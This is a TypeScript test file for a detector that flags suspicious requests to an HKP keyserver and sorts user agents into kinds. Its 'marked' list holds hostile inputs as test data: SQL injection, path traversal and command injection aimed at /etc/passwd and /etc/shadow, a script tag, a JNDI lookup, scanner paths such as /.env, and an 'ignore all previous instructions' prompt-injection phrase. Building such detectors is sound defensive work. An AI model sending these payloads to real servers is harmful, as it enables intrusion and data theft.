import { equal, is } from 'uvu/assert'
import { classifyUserAgent, parseHkp } from '../../../src/detection/hkp/index.ts'
import { suite } from '../../support/suite.ts'

const test = suite('marks in HKP requests')

const harmless = [
  "/pks/lookup?op=index&search=Siobhan%20O'Connor",
  '/pks/lookup?op=index&search=Siobhan+O%27Connor+%3Cs%40oconnor.example%3E',
  '/pks/lookup?op=get&search=select%40union.example&exact=on',
  '/pks/lookup?op=index&search=drop+table+tennis+club',
  '/pks/lookup?op=index&search=Bj%C3%B6rn+%26+S%C3%B8n',
  '/pks/lookup?op=index&search=%22Anna%20Berg%22',
  '/pks/lookup?op=index&search=Anna%20Berg%20(work)%20%3Canna%40berg.example%3E',
  '/pks/lookup?op=get&search=a%2Bb%40example.org',
  '/pks/lookup?op=index&search=cat%20and%20dog%20ltd.',
  '/pks/lookup?op=index&search=union%20of%20europe',
  '/pks/lookup?op=index&search=admin%40example.org',
  '/pks/lookup?op=index&search=100%25',
  '/pks/lookup?op=index&search=%E5%B1%B1%E7%94%B0',
  '/get/anna@berg.example',
  '/assets/bootstrap/3.3.7/css/bootstrap.min.css',
  '/.well-known/security.txt',
  '/.well-known/openpgpkey/hu/iy9q119eutrkn8s1mk4r39qejnbu3n5q?l=Joe.Doe',
  '/robots.txt',
  '/favicon.ico',
  '/'
]
for (const target of harmless) {
  test(`finds nothing in ${target}`, () => equal(parseHkp('GET', target).marks, []))
}

const marked: [string, string][] = [
  [
    '/pks/lookup?op=index&search=bob%27%29%20AND%209504%3D5859%20AND%20%28%27xWhu%27%3D%27xWhu',
    'sql'
  ],
  ['/pks/lookup?op=index&search=%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--', 'sql'],
  ['/pks/lookup?op=index&search=1%3B%20DROP%20TABLE%20keys', 'sql'],
  ['/pks/lookup?op=index&search=x%27%7C%7Cpg_sleep%285%29--', 'sql'],
  ['/pks/lookup?op=get&search=..%2F..%2F..%2Fetc%2Fpasswd', 'path-traversal'],
  ['/pks/lookup?op=get&search=%252e%252e%252fetc%252fpasswd', 'path-traversal'],
  ['/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'script'],
  ['/pks/lookup?op=index&search=%24%7Bjndi%3Aldap%3A//x.invalid/a%7D', 'jndi'],
  ['/search/%7B%7B7%2A7%7D%7D', 'template'],
  ['/pks/lookup?op=get&search=0x%7Ccat%20/etc/shadow', 'command'],
  ['/pks/lookup?op=get&search=%60id%60', 'command'],
  ['/pks/lookup?op=get&search=a%00b', 'nul'],
  ['/pks/lookup?op=get&search=a%0d%0ab', 'control-character'],
  ['/pks/lookup?op=get&search=%ff%fe', 'invalid-utf8'],
  ['/pks/lookup?op=index&search=ignore%20all%20previous%20instructions', 'prompt-injection'],
  ['/.env', 'scanner-path'],
  ['/.git/config', 'scanner-path'],
  ['/wp-login.php', 'scanner-path'],
  ['/cgi-bin/luci', 'scanner-path'],
  ['/backup.zip', 'scanner-path'],
  ['/manager/html', 'scanner-path'],
  ['/owa/auth/logon.aspx', 'scanner-path']
]
for (const [target, mark] of marked) {
  test(`finds ${mark} in ${target}`, () => {
    is(parseHkp('GET', target).marks.includes(mark as never), true)
  })
}

const agents: [string, string][] = [
  ['', 'empty'],
  ['-', 'empty'],
  ['Hockeypuck/2.3.3', 'hockeypuck'],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0', 'browser'],
  ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'scanner'],
  ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'scanner'],
  ['Mozilla/5.0 (compatible; theHarvester)', 'scanner'],
  ['gobuster/3.5', 'scanner'],
  ['python-requests/2.31.0', 'library'],
  ['curl/8.5.0', 'library'],
  ['Debian APT-HTTP/1.3 (2.6.1)', 'library'],
  ['Prometheus/2.53.1', 'monitor'],
  ['Uptime-Kuma/1.23.16', 'monitor'],
  ['sks-spider/0.9 (+https://spider.example/)', 'monitor'],
  ['Mozilla/5.0 (compatible; Searchbot/2.1; +https://search.example/bot)', 'crawler'],
  ['Mailman/3.3.9', 'other']
]
for (const [text, expected] of agents) {
  test(`calls "${text}" ${expected}`, () => is(classifyUserAgent(text), expected))
}
